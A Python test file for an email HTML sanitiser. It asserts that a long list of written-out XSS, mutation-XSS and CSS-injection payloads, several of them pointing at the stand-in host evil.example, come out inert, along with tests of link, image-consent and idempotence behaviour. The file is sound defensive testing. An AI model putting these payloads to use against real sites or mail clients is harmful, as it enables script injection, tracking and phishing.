"""Nothing active is left of mail HTML, and what is left stays as it is when cleaned again."""

# ruff: noqa: E501 (a sample stays on its line)

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.sanitise import clean_html, place_images, unblock_images

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' &#x6a;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\u202ejavascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href=/admin/delete>x</a>",
    "<a href='https:evil'>x</a>",
    "<a href=blob:https://x/y>x</a>",
    "<a href=x ping=//evil.example>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<body background=//evil.example/x.png>",
    "<table background=//evil.example/x.png><td background=//evil.example/x.png>x",
    "<video><source onerror=alert(1)></video>",
    "<video poster=//evil.example/x.png src=//evil.example/x.mp4></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<img srcset='//evil.example/x.png 2x'>",
    "<picture><source srcset=//evil.example/x.png><img></picture>",
    "<img src=cid:x lowsrc=//evil.example dynsrc=//evil.example>",
    "<img src='mailto:x@y'>",
    "<img src=data:image/svg+xml,<svg/onload=alert(1)>>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style></style><script>alert(1)</script></style>",
    "<p style='background:url(//evil.example/x.png)'>x</p>",
    "<p style='background-image:url(//evil.example/x.png)'>x</p>",
    "<p style='list-style:url(//evil.example/x.png)'>x</p>",
    "<p style='content:url(//evil.example/x.png)'>x</p>",
    "<p style='background:u\\72l(//evil.example/x.png)'>x</p>",
    "<p style='background:u/**/rl(//evil.example/x.png)'>x</p>",
    "<p style='background:image-set(\"//evil.example/x.png\" 1x)'>x</p>",
    "<p style='color:expression(alert(1))'>x</p>",
    "<p style='width:exp/*x*/ression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='POSITION : ABSOLUTE'>x</p>",
    "<p style='margin-top:-9999px'>x</p>",
    "<p style='margin:0 -9999px'>x</p>",
    "<p style='text-indent:-9999px'>x</p>",
    "<p style='z-index:99999'>x</p>",
    "<p style='transform:scale(100)'>x</p>",
    "<p style='font-size:99999px'>x</p>",
    "<p style='width:9999em'>x</p>",
    "<p style='cursor:url(//evil.example/x)'>x</p>",
    "<p style='--x:url(//evil.example);color:var(--x)'>x</p>",
    "<p style='font-family:\"x;} body{background:url(//evil.example)\"'>x</p>",
    "<p id=x class=y name=z>x</p>",
    "<a name=location href=#x>x</a>",
    "<img name=cookie id=getElementById>",
    "<p tabindex=1 accesskey=x autofocus onfocus=alert(1) contenteditable>x</p>",
    "<p data-hx-get=/admin hx-get=/admin hx-trigger=load>x</p>",
    "<custom-element is=x onclick=alert(1)>x</custom-element>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x0conclick=alert(1)>x</p>",
    "<p on\0click=alert(1)>x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<table><tr><td><form><table><td></form><form><input></table>",
    "<plaintext><script>alert(1)</script>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<a href='https://good.example\\@evil.example'>x</a>",
]
ALLOWED = set(
    "style dir lang title align href target rel src data-remote-src alt width height border hspace vspace cellpadding"
    " cellspacing bgcolor valign colspan rowspan nowrap scope span color face size start type reversed value datetime open".split()
)
ACTIVE = set(
    "script style svg math iframe object embed form input button select textarea base meta link video audio source template"
    " frameset frame noscript title xmp plaintext marquee picture body html applet isindex".split()
)


class Judge(HTMLParser):
    """Reads cleaned HTML and refuses whatever could act."""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        assert tag not in ACTIVE
        assert re.fullmatch("[a-z][a-z0-9]*", tag)
        for name, value in attributes:
            assert name in ALLOWED, name
            self.judge_value(tag, name, value or "")

    def judge_value(self, tag: str, name: str, value: str) -> None:
        if name == "href":
            assert re.match("(https?://|mailto:|tel:|cid:)", value), value
        if name == "src":
            assert value.startswith("cid:"), value
        if name == "data-remote-src":
            assert re.match("https?://", value), value
        if name == "style":
            assert not re.search(
                r"url|position|expression|[\\@(]|z-index|-\d|transform", re.sub(r"(rgb|hsl)a?\(", "", value)
            ), value


def judge(html: str) -> None:
    reader = Judge()
    reader.feed(html)
    reader.close()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_is_left(payload: str) -> None:
    judge(clean_html(payload).html)
    judge(clean_html(f"<div><p>{payload}</p></div>").html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_cleaning_twice_is_cleaning_once(payload: str) -> None:
    once = clean_html(payload).html
    assert clean_html(once).html == once


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(PAYLOADS)
        | st.text(max_size=8)
        | st.sampled_from("<table> <td> </table> <p> <b> <a> </a>".split()),
        max_size=8,
    )
)
def test_payloads_in_any_mixture_stay_harmless(pieces: list[str]) -> None:
    once = clean_html("".join(pieces)).html
    judge(once)
    assert clean_html(once).html == once


def test_what_mail_needs_is_kept() -> None:
    html = '<p style="color: #333; margin: 0 0 8px">Halo <b>Budi</b></p><blockquote><ul><li>satu</li></ul></blockquote>'
    assert clean_html(html).html == html


def test_a_table_keeps_its_measures() -> None:
    html = '<table width="600" cellpadding="0" bgcolor="#ffffff"><tbody><tr><td colspan="2" valign="top">x</td></tr></tbody></table>'
    assert clean_html(html).html == html


def test_links_open_outside_and_tell_nothing() -> None:
    assert clean_html('<a href="https://example.org/a?b=1&amp;c=2">x</a>').html == (
        '<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )


def test_the_real_host_is_written_behind_a_link_that_names_another() -> None:
    assert clean_html('<a href="https://evil.example/x">www.bank.example</a>').html.endswith("</a> [evil.example]")
    assert clean_html('<a href="https://www.bank.example/x">bank.example</a>').html.endswith("</a>")


def test_a_mail_cannot_write_the_host_itself() -> None:
    html = '<a href="https://evil.example/x">bank.example</a> [bank.example]'
    assert "</a> [evil.example] [bank.example]" in clean_html(html).html


def test_remote_images_wait_for_consent() -> None:
    cleaned = clean_html('<img src="https://track.example/p.gif" alt="Logo">')
    assert cleaned.blocked_images == 1
    assert cleaned.html == '<img data-remote-src="https://track.example/p.gif" alt="Logo">'
    assert unblock_images(cleaned.html) == '<img src="https://track.example/p.gif" alt="Logo">'


def test_remote_images_may_be_allowed_at_once() -> None:
    cleaned = clean_html('<img src="https://shop.example/p.gif">', remote_images="allow")
    assert (cleaned.html, cleaned.blocked_images) == ('<img src="https://shop.example/p.gif">', 0)


def test_inline_images_are_placed_by_content_id() -> None:
    cleaned = clean_html('<img src="cid:logo@shop"><img src="cid:other">').html
    assert place_images(cleaned, {"logo@shop": "/files/1?a=1&b=2"}) == (
        '<img src="/files/1?a=1&amp;b=2"><img src="cid:other">'
    )


def test_html_past_the_limits_comes_back_as_text() -> None:
    html = "<div>" * 2_000 + "Halo <b>dunia</b><script>alert(1)</script>"
    assert clean_html(html).html == "<div>Halo dunia</div>"
